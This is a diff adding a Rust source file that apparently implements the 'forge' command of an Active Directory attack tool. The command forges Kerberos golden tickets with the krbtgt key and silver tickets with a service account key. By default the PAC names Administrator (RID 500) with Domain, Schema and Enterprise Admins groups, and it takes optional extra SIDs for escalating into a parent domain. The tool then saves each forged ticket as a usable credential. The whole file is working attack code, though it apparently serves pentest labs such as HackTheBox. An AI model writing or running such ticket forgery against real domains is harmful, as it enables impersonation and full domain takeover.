@@ -0,0 +1,218 @@
+use chrono::Duration;
+use clap::{Args, ValueEnum};
+use himmelblau_kerberos_asn1::EncryptionKey;
+use himmelblau_kerberos_constants::{
+    etypes::{AES128_CTS_HMAC_SHA1_96, AES256_CTS_HMAC_SHA1_96, RC4_HMAC},
+    principal_names::NT_SRV_INST,
+};
+
+use crate::{
+    app::App,
+    cli::commands::Command,
+    data::{credential::AuthMethod, AuthData, Credential, DomainController},
+    kerberos::{
+        etype_name,
+        forge::{forge_ticket, ForgeRequest, DEFAULT_GROUP_ATTRIBUTES},
+        pac::LogonInfo,
+        ticket::{encode_ticket, hex_decode, long_term_key, principal_name, service_account_name, session_ticket_from_ccache},
+        Etype,
+    },
+    utils::{
+        ldap_operations::{filetime, sam_account_name, sid_to_string},
+        ldap_session::LdapSession,
+    },
+};
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
+pub enum ForgeType {
+    /// TGT signed with the krbtgt key
+    Golden,
+    /// Service ticket signed with the service account key
+    Silver,
+}
+
+#[derive(Debug, Args, Clone)]
+pub struct ForgeArgs {
+    /// Kind of ticket to forge
+    #[arg(long = "type", value_enum)]
+    pub ticket_type: ForgeType,
+
+    /// Client of the ticket
+    #[arg(short, long, default_value = "Administrator")]
+    pub user: String,
+
+    /// RID of the client
+    #[arg(long, default_value_t = 500)]
+    pub user_rid: u32,
+
+    /// SID of the domain (looked up over LDAP with the current credential when omitted)
+    #[arg(long)]
+    pub domain_sid: Option<String>,
+
+    /// RIDs of the domain groups put in the PAC
+    #[arg(long, value_delimiter = ',', default_value = "513,512,520,518,519")]
+    pub groups: Vec<u32>,
+
+    /// Extra SIDs put in the PAC, e.g. the Enterprise Admins of a parent domain
+    #[arg(long = "extra-sid")]
+    pub extra_sids: Vec<String>,
+
+    /// Service principal of a silver ticket (e.g. cifs/web01.voleur.htb)
+    #[arg(long, required_if_eq("ticket_type", "silver"))]
+    pub spn: Option<String>,
+
+    /// Account owning the service key, when the SPN isn't registered on the host's computer account
+    #[arg(long, requires = "spn")]
+    pub service_account: Option<String>,
+
+    /// Hex encoded krbtgt or service key, taken from the stored credentials of the account when omitted
+    #[arg(short, long)]
+    pub key: Option<String>,
+
+    /// Encryption type of --key (32 hex characters default to RC4, 64 to AES256)
+    #[arg(short, long, value_enum, requires = "key")]
+    pub etype: Option<Etype>,
+
+    /// Lifetime of the ticket in hours
+    #[arg(long, default_value_t = 10)]
+    pub lifetime: i64,
+
+    /// Key version number of the ticket
+    #[arg(long, default_value_t = 2)]
+    pub kvno: u32,
+
+    /// NetBIOS name of the domain (defaults to the first label of the domain name)
+    #[arg(long)]
+    pub netbios: Option<String>,
+}
+
+/// Long term key of a stored credential of `account`, the strongest one first
+fn stored_key(app: &mut App, account: &str, realm: &str) -> Option<(EncryptionKey, Credential)> {
+    let candidates: Vec<Credential> = app
+        .credential_storage()
+        .get_all_credentials()
+        .into_iter()
+        .filter(|c| sam_account_name(&c.username).eq_ignore_ascii_case(account))
+        .collect();
+    [AES256_CTS_HMAC_SHA1_96, AES128_CTS_HMAC_SHA1_96, RC4_HMAC].iter().find_map(|etype| {
+        candidates
+            .iter()
+            .find_map(|creds| long_term_key(creds, *etype, realm).ok().map(|key| (key, creds.clone())))
+    })
+}
+
+/// SID of the domain object of the current domain controller
+async fn lookup_domain_sid(ldap: &mut LdapSession) -> Result<String, String> {
+    let entries = ldap.search("(objectClass=domain)", vec!["objectSid"]).await?;
+    entries
+        .iter()
+        .find_map(|entry| entry.bin_attrs.get("objectSid")?.first().and_then(|sid| sid_to_string(sid)))
+        .ok_or("Domain SID not found, pass it with --domain-sid".to_string())
+}
+
+impl ForgeArgs {
+    fn key_from_args(&self) -> Result<Option<EncryptionKey>, String> {
+        let Some(key) = &self.key else {
+            return Ok(None);
+        };
+        let keyvalue = hex_decode(key)?;
+        let keytype = match (self.etype, keyvalue.len()) {
+            (Some(etype), _) => etype.into(),
+            (None, 16) => RC4_HMAC,
+            (None, 32) => AES256_CTS_HMAC_SHA1_96,
+            _ => return Err("Keys are 32 (RC4, AES128) or 64 (AES256) hex characters".to_string()),
+        };
+        Ok(Some(EncryptionKey { keytype, keyvalue }))
+    }
+
+    fn logon_info(&self, domain_sid: &str, dc: &DomainController) -> LogonInfo {
+        let now = filetime(dc.now());
+        let netbios = self
+            .netbios
+            .clone()
+            .unwrap_or(dc.domain_name.split('.').next().unwrap_or(&dc.domain_name).to_string());
+        LogonInfo {
+            logon_time: now,
+            password_last_set: now,
+            password_must_change: 0x7fff_ffff_ffff_ffff,
+            effective_name: self.user.clone(),
+            user_id: self.user_rid,
+            primary_group_id: self.groups.first().copied().unwrap_or(513),
+            group_ids: self.groups.iter().map(|rid| (*rid, DEFAULT_GROUP_ATTRIBUTES)).collect(),
+            logon_domain_name: netbios.to_uppercase(),
+            logon_domain_id: Some(domain_sid.to_string()),
+            // NORMAL_ACCOUNT | DONT_EXPIRE_PASSWORD
+            user_account_control: 0x210,
+            extra_sids: self
+                .extra_sids
+                .iter()
+                .map(|sid| (sid.clone(), DEFAULT_GROUP_ATTRIBUTES))
+                .collect(),
+            ..Default::default()
+        }
+    }
+}
+
+impl Command for ForgeArgs {
+    async fn execute(&self, app: &mut App) -> Result<bool, String> {
+        let dc = app.get_current_dc()?;
+        let realm = dc.domain_name.to_uppercase();
+
+        let sname = match self.ticket_type {
+            ForgeType::Golden => principal_name(NT_SRV_INST, &format!("krbtgt/{}", realm)),
+            ForgeType::Silver => principal_name(NT_SRV_INST, self.spn.as_deref().unwrap_or_default()),
+        };
+        let account = self.service_account.clone().unwrap_or(service_account_name(&sname));
+
+        let service_key = match self.key_from_args()? {
+            Some(key) => key,
+            None => {
+                let (key, creds) = stored_key(app, &account, &realm)
+                    .ok_or(format!("No stored key of {}, pass it with --key", account))?;
+                println!("Using the {} key of {} ({})", etype_name(key.keytype), creds.username, creds.id);
+                key
+            }
+        };
+        let krbtgt_key = match self.ticket_type {
+            ForgeType::Golden => Some(service_key.clone()),
+            ForgeType::Silver => stored_key(app, "krbtgt", &realm).map(|(key, _)| key),
+        };
+        if self.ticket_type == ForgeType::Silver && krbtgt_key.is_none() {
+            println!("No stored krbtgt key, the KDC signatures are made with the service key");
+        }
+
+        let domain_sid = match &self.domain_sid {
+            Some(sid) => sid.clone(),
+            None => {
+                if app.current_used_creds.is_none() {
+                    return Err("Pass the --domain-sid or select a credential to look it up".to_string());
+                }
+                lookup_domain_sid(&mut app.ldap_session(AuthMethod::Auto).await?).await?
+            }
+        };
+
+        let request = ForgeRequest {
+            realm: realm.clone(),
+            username: self.user.clone(),
+            sname,
+            logon_info: self.logon_info(&domain_sid, &dc),
+            now: dc.now(),
+            lifetime: Duration::hours(self.lifetime),
+            kvno: self.kvno,
+            service_key,
+            krbtgt_key,
+        };
+        let ccache = forge_ticket(&request)?;
+        let ticket = session_ticket_from_ccache(&ccache)?;
+        println!("Forged ticket for {}@{} to {}", self.user, realm, ticket.server_principal());
+
+        let mut creds = Credential::new_password(self.user.clone(), String::new(), "Forge".to_string());
+        creds.auth_data = AuthData::KerberosTicket(encode_ticket(ccache));
+        creds.target_dc = Some(dc.domain_name.clone());
+        creds.set_metadata("spn".to_string(), ticket.server_principal());
+        creds.set_metadata("forged".to_string(), format!("{:?}", self.ticket_type).to_lowercase());
+        app.credential_storage().add_credential(creds)?;
+        println!("New credential added to storage !");
+        Ok(false)
+    }
+}